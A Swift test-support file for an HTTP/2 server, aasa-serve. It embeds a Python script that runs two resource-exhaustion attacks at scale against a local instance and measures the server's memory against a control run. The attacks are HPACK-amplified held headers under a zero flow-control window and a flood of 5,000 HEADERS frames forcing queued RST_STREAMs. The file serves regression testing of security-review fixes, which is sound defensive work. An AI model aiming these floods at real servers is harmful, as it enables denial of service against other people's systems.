import Foundation
import TestSupport

/// Many HTTP/2 connections misbehaving at once against one aasa-serve, in Python (the standard
/// library only): the two attacks of the security review that grew the server's memory with
/// every connection, run at the scale of `--max-connections`, while a well-behaved client asks
/// for a file now and then. The script reads the server's memory from its status file itself
/// (`statusFile`, Linux's proc file system), so the
/// figure is taken while the attack's connections are all open; the tests that run it are
/// enabled only where `System.hasProcFileSystem`.
///
/// Attacks (`mode`):
/// - `held-heads`: SETTINGS_INITIAL_WINDOW_SIZE 0 (no response body can ever be sent, so every
///   stream stays open until the server's response timeout), a 3,900-byte `if-none-match` value
///   put in the HPACK table, then 100 requests whose header blocks each refer to it four times:
///   about 16 KB of header values per stream from a few bytes on the wire.
/// - `refused-flood`: the preface and SETTINGS_INITIAL_WINDOW_SIZE 0, no acknowledgement of the
///   server's SETTINGS and no reads, then 5,000 HEADERS on streams 1, 3, 5… (12 bytes each) in
///   one write: every stream past the 100 held open is refused with a RST_STREAM that the server
///   has to queue.
///
/// Each attack runs after a control: the same number of connections sending the same requests
/// without what makes them an attack (`held-heads` without the header fields, `refused-flood`
/// acknowledging the SETTINGS), closed before the attack starts. The report: the server's peak
/// resident memory (VmHWM) after the control (`baselineKB`: what serving that many connections
/// costs anyway, TLS and HTTP/2 buffers included) and after the attack (`peakKB`), connections
/// opened by the attack and closed by the server, GOAWAY error codes seen, and how many of the
/// well-behaved requests were answered with 200 (`answered` of `asked`).
enum HTTP2MassAttack {
  struct Report: Decodable, Sendable, CustomStringConvertible {
    var baselineKB: Int
    var peakKB: Int
    var opened: Int
    var closedByServer: Int
    var goawayCodes: [Int]
    var asked: Int
    var answered: Int

    var growthKB: Int { peakKB - baselineKB }
    var description: String {
      "baseline \(baselineKB) KB, peak \(peakKB) KB (+\(growthKB) KB), \(opened) connections, "
        + "\(closedByServer) closed by the server, GOAWAY codes \(Set(goawayCodes).sorted()), "
        + "\(answered)/\(asked) others answered"
    }
  }

  static let script = #"""
    import json, select, socket, ssl, struct, sys, time
    mode, port, status_file, count, hold = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    PATH = b"/.well-known/apple-app-site-association"

    def rss(field):
        with open(status_file) as status:
            for line in status:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
        return 0

    def frame(kind, flags, stream, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def literal(name, value, index=False):
        # A literal field with a new name: with incremental indexing (0x40) or without (0x00).
        def length(n):
            if n < 127:
                return bytes([n])
            out, n = [127], n - 127
            while n >= 128:
                out.append((n & 0x7F) | 0x80)
                n >>= 7
            return bytes(out + [n])
        return bytes([0x40 if index else 0x00]) + length(len(name)) + name + length(len(value)) + value

    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE

    def connect(alpn):
        context.set_alpn_protocols([alpn])
        return context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10))

    def well_behaved():
        # One HTTP/1.1 request on a connection of its own: answered with 200 or not.
        try:
            tls = connect("http/1.1")
            tls.sendall(b"GET " + PATH + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            data = b""
            while not data.startswith(b"HTTP/1.1 ") or len(data) < 12:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                data += chunk
            tls.close()
            return data.startswith(b"HTTP/1.1 200")
        except (OSError, ssl.SSLError):
            return False

    asked = answered = 0
    def ask():
        global asked, answered
        asked += 1
        answered += 1 if well_behaved() else 0

    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    def misbehave(tls, attack):
        if mode == "held-heads":
            # INITIAL_WINDOW_SIZE 0, and the server's SETTINGS acknowledged (it is already sent).
            # The control sends the same requests without the fields.
            data = preface + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)) + frame(0x4, 0x1, 0, b"")
            big = literal(b"if-none-match", b'"' + b"a" * 3898 + b'"', index=True)
            common = b"\x82\x87" + literal(b":path", PATH) + literal(b":authority", b"127.0.0.1")
            for number in range(100):
                fields = common + (((big if number == 0 else b"") + b"\xbe" * 4) if attack else b"")
                data += frame(0x1, 0x5, 2 * number + 1, fields)
            tls.sendall(data)
        else:
            # INITIAL_WINDOW_SIZE 0 and no acknowledgement of the server's SETTINGS (the control
            # acknowledges them): no stream's body can be sent, so past 100 streams each new one
            # is refused; then 5,000 HEADERS (60 KB) in one go, which the server reads in one
            # batch.
            ack = b"" if attack else frame(0x4, 0x1, 0, b"")
            burst = b"".join(frame(0x1, 0x5, 2 * n + 1, b"\x82\x87\x84") for n in range(5000))
            try:
                tls.sendall(preface + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)) + ack + burst)
            except (OSError, ssl.SSLError):
                pass

    goaways, closed = [], set()
    def drain(tls):
        # Reads what the server sent, for its GOAWAY; notes a close.
        try:
            while True:
                data = tls.recv(65536)
                if not data:
                    closed.add(id(tls))
                    return
                at = data.find(b"\x07\x00\x00\x00\x00\x00")
                if at >= 3 and len(data) >= at + 14:
                    goaways.append(struct.unpack(">I", data[at + 10:at + 14])[0])
        except ssl.SSLWantReadError:
            return
        except (OSError, ssl.SSLError):
            closed.add(id(tls))

    def phase(attack):
        # `count` connections behaving so, held for `hold` seconds while others are served;
        # returns them, open.
        connections = []
        for index in range(count):
            try:
                tls = connect("h2")
            except (OSError, ssl.SSLError):
                break
            misbehave(tls, attack)
            tls.setblocking(False)
            connections.append(tls)
            if index % 100 == 99:
                ask()
        started = time.time()
        while time.time() - started < hold:
            time.sleep(0.5)
            ask()
        return connections

    ask()
    # The control: the same connections and requests without what makes them an attack. Its
    # peak is the baseline: what serving that many connections costs anyway (TLS and HTTP/2
    # buffers, the streams a shut window holds), which the attack must not add much to.
    control = phase(False)
    baseline = rss("VmHWM")
    for tls in control:
        tls.close()
    time.sleep(1)
    connections = phase(True)
    peak = rss("VmHWM")
    for tls in connections:
        if id(tls) not in closed:
            drain(tls)
    ask()
    print(json.dumps({"baselineKB": baseline, "peakKB": peak, "opened": len(connections),
        "closedByServer": len(closed), "goawayCodes": goaways, "asked": asked, "answered": answered}))
    """#

  /// Async, so that the minute or more it takes holds no thread of the test runner's pool (the
  /// suites that need one would wait for it).
  static func run(mode: String, port: Int, pid: Int32, connections: Int, hold: Double) async throws
    -> Report
  {
    let directory = try TemporaryDirectory()
    let path = try directory.write("h2mass.py", script)
    let result = try await ChildProcess.run(
      try ExecutableLookup.require("python3"),
      [path, mode, String(port), statusFile(of: pid), String(connections), String(hold)],
      timeout: .seconds(2 * hold + 240))
    guard let line = result.stdout.split(separator: "\n").last,
      let report = try? JSONDecoder().decode(Report.self, from: Data(line.utf8))
    else {
      throw TimedOut(description: "h2mass \(mode) failed: \(result.stdout) \(result.stderr)")
    }
    return report
  }

  /// The file that holds a process's resident memory (VmRSS, VmHWM): Linux's proc file system,
  /// which the tests that run this require (`System.hasProcFileSystem`).
  static func statusFile(of pid: Int32) -> String {
    #if os(Linux)
      return "/proc/\(pid)/status"
    #else
      return ""
    #endif
  }
}
